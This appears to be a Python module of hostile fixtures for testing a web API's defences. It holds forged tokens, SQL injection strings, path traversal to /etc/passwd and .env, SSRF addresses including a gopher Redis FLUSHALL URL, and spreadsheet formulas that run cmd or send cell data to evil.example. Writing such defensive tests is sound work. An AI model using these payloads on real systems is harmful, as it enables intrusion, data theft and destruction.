"""Requests, tokens, names, addresses and texts that are meant to lead astray."""

import base64
import json
from typing import Any


def part(**claims: Any) -> str:
    """One part of a token."""
    return base64.urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("=")


NONE_TOKEN = f'{part(alg="none", typ="JWT")}.{part(sub="x", type="access", sid="x", exp=9999999999)}.'
OTHER_ALGORITHM = f'{part(alg="RS256", typ="JWT")}.{part(sub="x", type="access")}.c2ln'
KEY_FROM_ELSEWHERE = (
    f'{part(alg="HS256", jku="http://169.254.169.254/keys", kid="../../dev/null")}.{part(sub="x")}.c2ln'
)

TOKENS = [
    "", " ", "Bearer", "null", "undefined", "fs_", "fs_" + "a" * 43, "fs_' OR 1=1 --", "fs_" + "a" * 100_000, "a.b.c", "..",
    NONE_TOKEN, NONE_TOKEN + "x", OTHER_ALGORITHM, KEY_FROM_ELSEWHERE, "e30.e30.", "e30.e30.e30", "x" * 8_000,
    part(alg="HS256") + "." + "W" * 20_000 + ".x", "%00", "\\u0000", "{}", "[]", "fs_%s%s%n", "admin", "é.é.é",
]  # fmt: skip
"""What is sent instead of a token."""

CURSORS = [
    "x", "%00", "W10", base64.urlsafe_b64encode(b"[" * 4_000).decode(), base64.urlsafe_b64encode(b'{"a":1}').decode(),
    base64.urlsafe_b64encode(b'["id", true, "x", "\\u0000"]').decode(), base64.urlsafe_b64encode(b"[1e999, 1]").decode(),
    base64.urlsafe_b64encode(b"[NaN, 1]").decode(), base64.urlsafe_b64encode(b"[1, 99999999999999999999999]").decode(),
    base64.urlsafe_b64encode(b'["\' OR 1=1 --", 1]').decode(), "A" * 6_000, "====",
]  # fmt: skip
"""Cursors no list of ours gave."""

PATHS = [
    "/static/../app.py", "/static/%2e%2e/app.py", "/static/..%2fapp.py", "/static/..%5capp.py", "/static//etc/passwd",
    "/static/js/../../core/config.py", "/static/%2e%2e%2f%2e%2e%2fetc/passwd", "/static/.env", "/.env", "/.git/config",
    "/app.py", "/data/secrets.json", "/..%2f..%2fetc%2fpasswd", "/static/js/main.js%00.txt", "/api/v1/%00", "/api/v1/..",
    "/api/v1/recordings/../../../etc/passwd", "/api/v1/recordings/%2e%2e%2f", "/api/v1/recordings/1%20OR%201=1",
    "/api/v1/recordings/' OR '1'='1", "/api/v1/jobs/{{7*7}}", "/api/v1/jobs/${7*7}", "/api/v1/" + "a/" * 1_000,
    "/api/v1/recordings/" + "9" * 400, "/api/v1/recordings/-1", "/api/v1/recordings/0x10", "/api/v1/recordings/1e3",
    "/api/v1/recordings/٣", "/api/v1/uploads/not-a-uuid", "/api/v1/uploads/00000000-0000-0000-0000-000000000000",
]  # fmt: skip
"""Addresses that lead to files, or are no addresses."""

QUERIES = [
    "limit=-1", "limit=0", "limit=501", "limit=1e9", "limit=99999999999999999999", "limit=x", "ordering=password_hash",
    "ordering=name;drop table users", "ordering=-name,-name", "search=%00", "search=%ff", "search=" + "a" * 5_000,
    "no_such=1", "limit=1&limit=2", "project_id=' OR 1=1", "project_id[]=1", "project_id[$ne]=1", "cursor[]=x",
    "__proto__[x]=1", "group_id=%7B%7D",
]  # fmt: skip
"""Queries of a list."""

HEADERS: list[dict[str, str]] = [
    {"X-Forwarded-For": "127.0.0.1"}, {"X-Forwarded-Host": "evil.example"}, {"X-Original-URL": "/metrics"},
    {"X-HTTP-Method-Override": "DELETE"}, {"Accept": "*/*;" * 2_000}, {"Accept-Language": "../../etc/passwd"},
    {"If-Match": '"' * 4_000}, {"Range": "bytes=" + "0-1," * 2_000}, {"Range": "bytes=9999999999999999999-"},
    {"Idempotency-Key": "x" * 5_000}, {"Cookie": "fs_refresh=" + "x" * 4_000}, {"Cookie": "session=eyJhZG1pbiI6dHJ1ZX0"},
    {"Origin": "null"}, {"Origin": "https://evil.example"}, {"Content-Type": "application/x-python-pickle"},
    {"Content-Type": "multipart/form-data"}, {"Content-Type": "multipart/form-data; boundary=" + "x" * 4_000},
    {"Content-Encoding": "gzip"}, {"Upgrade": "h2c", "Connection": "Upgrade"}, {"User-Agent": "x" * 8_000},
]  # fmt: skip
"""Headers with which a person's own list is asked for; the answer is an ordinary one, or a refusal."""

FILE_NAMES = {
    "../../etc/passwd": "passwd", "..\\..\\boot.ini": "boot.ini", "/etc/shadow": "shadow", "a\0b.wav": "ab.wav",
    "a\nb.wav": "ab.wav", "..": "", ".": "", "": "", "/": "", "\u202egpj.exe": "gpj.exe", "x" * 400: "x" * 255, "a/": "a",
    "C:\\x\\a.wav": "a.wav", "\x1b[2Ja.wav": "[2Ja.wav", "a\r\nSet-Cookie: x": "aSet-Cookie: x", " \t ": "",
    "\u2028a": "a", "\u0085a": "a", "....//a": "a", "con\\..\\nul": "nul",
}  # fmt: skip
"""Names of uploads, and what is kept of them."""

INSIDE = [
    "127.0.0.1", "127.1.2.3", "0.0.0.0", "10.0.0.1", "172.16.0.1", "172.31.255.255", "192.168.0.1", "169.254.169.254",
    "100.64.0.1", "192.0.0.1", "192.0.2.1", "198.18.0.1", "198.51.100.1", "203.0.113.1", "224.0.0.1", "239.1.1.1",
    "240.0.0.1", "255.255.255.255", "::", "::1", "fe80::1", "fe80::1%eth0", "fc00::1", "fd12:3456::1", "ff02::1",
    "2001:db8::1", "::ffff:127.0.0.1", "::ffff:10.0.0.1", "::ffff:7f00:1", "::127.0.0.1", "::a00:1", "64:ff9b::7f00:1",
    "64:ff9b::a9fe:a9fe", "2002:7f00:1::", "2002:a9fe:a9fe::", "2001:0:4136:e378:8000:63bf:80ff:fffe",
]  # fmt: skip
"""IP addresses of one's own network, in every dress."""

OUTSIDE = ["1.1.1.1", "8.8.8.8", "2606:4700:4700::1111", "::ffff:8.8.8.8", "64:ff9b::808:808", "2002:808:808::"]
"""Public addresses, so that the walk above proves something."""

HOOKS = [
    "file:///etc/passwd", "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/", "ftp://example.org/x",
    "jar:http://example.org!/", "http://example.org/hook", "//example.org/hook", "https://", "https:///x",
    "https://user:secret@example.org/", "https://example.org:0/", "https://example.org:99999/", "https://example.org:x/",
    "javascript:alert(1)", "data:text/html,x", "ldap://example.org/", "unix:///var/run/docker.sock", "", " ", "https",
    "https://@127.0.0.1", "tftp://example.org/a", "netdoc:/etc/passwd",
]  # fmt: skip
"""Addresses of webhooks that are refused as they stand."""

HOSTS_INSIDE = [
    "127.0.0.1", "localhost", "LOCALHOST", "localhost.", "0", "127.1", "2130706433", "0x7f000001", "017700000001",
    "[::1]", "::1", "redis", "postgres", "printer.local", "db.internal", "router.lan", "nas.home.arpa", "a.localhost",
    "169.254.169.254", "[::ffff:169.254.169.254]",
]  # fmt: skip
"""Hosts of sources of telemetry that lie inside."""

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠x", "'=1", "''=1",
    '=HYPERLINK("http://evil.example?x="&A1,"x")', "=IMPORTXML(\"http://evil.example\",\"//a\")", "=DDE(\"cmd\";\"/C calc\")",
    "-2+3+cmd|' /C calc'!A0", "@import", "=\n1", "+\u00a01",
]  # fmt: skip
"""Texts that a spreadsheet would run."""

MESSAGES: list[Any] = [
    None, 1, "x", [], {}, {"room": None}, {"room": 1}, {"room": []}, {"room": {}}, {"room": ""}, {"room": ":"},
    {"room": "x" * 201}, {"room": "job:\0"}, {"room": "job:' OR 1=1"}, {"room": "user:*"}, {"room": "group:"},
    {"room": "job:../../x"}, {"room": "__proto__"}, {"room": "nokind:1"}, {"room": "job:" + "9" * 190},
]  # fmt: skip
"""What is sent over the live channel to join a room."""
